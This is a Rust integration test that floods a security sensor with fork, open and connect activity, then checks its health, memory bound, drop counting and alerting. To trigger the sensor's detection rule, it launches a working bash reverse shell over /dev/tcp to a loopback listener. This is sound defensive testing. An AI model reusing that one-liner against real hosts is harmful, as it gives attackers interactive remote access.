//! Issue 9: overload. A 30 s storm (fork/exec + opens + loopback connects from several
//! processes) beyond capacity: the sensor stays up and healthy, its RSS stays under the
//! documented bound (docs/reliability.md: 128 MiB with default caps), drops are counted, and a
//! reverse shell right after the storm still raises its alert.

mod harden_support;

use std::io::Write as _;
use std::net::TcpListener;
use std::process::Command;
use std::time::{Duration, Instant};

use harden_support::{Storm, free_addr, http_get, rss_kib, signal, tempdir};
use sensor_tests::{Sensor, field_str, require_root};

/// The documented memory bound with default caps.
const RSS_BOUND_KIB: u64 = 128 * 1024;
/// The built-in "shell with a network socket as stdio" rule.
const REVERSE_SHELL_RULE: &str = "6f1c2a3e-5b0d-4c1e-9a51-0d3c6b2e7a01";

#[test]
fn storm_keeps_sensor_up_bounded_counted_and_detecting() -> anyhow::Result<()> {
    if !require_root("storm_keeps_sensor_up_bounded_counted_and_detecting") {
        return Ok(());
    }
    let secs: u64 = std::env::var("STORM_SECONDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(30);
    let dir = tempdir("overload-")?;
    let sink = TcpListener::bind("127.0.0.1:0")?;
    let sink_port = sink.local_addr()?.port();
    std::thread::spawn(move || {
        for conn in sink.incoming() {
            drop(conn);
        }
    });
    let addr = free_addr()?;
    // Events go to /dev/null: at release-build speed a 30 s storm is millions of lines, more
    // than this test can hold; alerts (what it waits for) stay on stdout.
    let mut sensor = Sensor::start(&[
        "run",
        "--events",
        "/dev/null",
        "--alerts",
        "-",
        "--metrics-addr",
        &addr,
    ])?;
    let pid = sensor.pid();

    let storm = Storm::start(4, &dir, sink_port)?;
    let started = Instant::now();
    let mut max_rss = 0;
    while started.elapsed() < Duration::from_secs(secs) {
        max_rss = max_rss.max(rss_kib(pid).unwrap_or(0));
        sensor.drain()?;
        std::thread::sleep(Duration::from_secs(1));
    }
    let health = http_get(&addr, "/healthz")?;
    drop(storm);
    assert!(health.contains(" 200 "), "{health}");

    // Detection resumes once the sensor has worked through the backlog: while the ring is still
    // full, new events are dropped (and counted), the reverse shell's exec among them. A debug
    // build on a 2-core machine needs a while for a full 4 MiB ring.
    let caught_up = Instant::now();
    loop {
        sensor.drain()?;
        let metrics = http_get(&addr, "/metrics")?;
        let used = metrics
            .lines()
            .find_map(|l| l.strip_prefix("sensor_ringbuf_used_bytes{ring=\"events\"} "))
            .and_then(|v| v.trim().parse::<f64>().ok())
            .ok_or_else(|| anyhow::anyhow!("no sensor_ringbuf_used_bytes in:\n{metrics}"))?;
        if used < 64.0 * 1024.0 {
            break;
        }
        assert!(
            caught_up.elapsed() < Duration::from_secs(180),
            "the sensor did not catch up within 180 s after the storm ({used} bytes still queued)"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    eprintln!(
        "overload: backlog read {:?} after the storm",
        caught_up.elapsed()
    );

    // Reverse shell right after the storm.
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let attacker = std::thread::spawn(move || -> std::io::Result<()> {
        let (mut conn, _) = listener.accept()?;
        conn.write_all(b"exit\n")?;
        Ok(())
    });
    let shell = Command::new("/bin/bash")
        .arg("-c")
        .arg(format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"))
        .spawn()?;
    shell.wait_with_output()?;
    let _ = attacker.join();
    let backlog = Instant::now();
    let alert = sensor.wait_for_alert(Duration::from_secs(240), |a| {
        field_str(a, "rule.id") == Some(REVERSE_SHELL_RULE)
    })?;
    let after = backlog.elapsed();
    max_rss = max_rss.max(rss_kib(pid).unwrap_or(0));
    assert!(field_str(&alert, "process.command_line").is_some_and(|c| c.contains("bash")));

    let metrics = http_get(&addr, "/metrics")?;
    signal(&sensor, libc::SIGTERM);
    let deadline = Instant::now() + Duration::from_secs(15);
    while !sensor.log().contains("capture statistics") && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let log = sensor.log();
    let stats = log
        .lines()
        .find(|l| l.contains("capture statistics"))
        .unwrap_or_default();
    let drops: u64 = stats
        .split_whitespace()
        .find_map(|kv| kv.strip_prefix("kernel_drops=")?.parse().ok())
        .ok_or_else(|| anyhow::anyhow!("no kernel_drops in stats line; log:\n{log}"))?;
    eprintln!(
        "overload: {secs} s storm, max RSS {} KiB, kernel drops {drops}, alert {after:?} after the storm",
        max_rss
    );
    assert!(
        max_rss > 0 && max_rss < RSS_BOUND_KIB,
        "RSS {max_rss} KiB over the bound"
    );
    assert!(metrics.contains("sensor_"), "metrics not served");
    assert!(
        drops > 0 || metrics.contains("kernel_drops"),
        "drops not counted"
    );
    // The event sink is a character device: the file output must never have rotated it away
    // (renaming /dev/null and creating a regular file in its place breaks the whole host).
    {
        use std::os::unix::fs::FileTypeExt as _;
        let kind = std::fs::metadata("/dev/null")?.file_type();
        assert!(kind.is_char_device(), "/dev/null is no longer a device");
        assert!(
            !std::path::Path::new("/dev/null.1").exists(),
            "/dev/null was rotated"
        );
    }
    std::fs::remove_dir_all(&dir)?;
    Ok(())
}
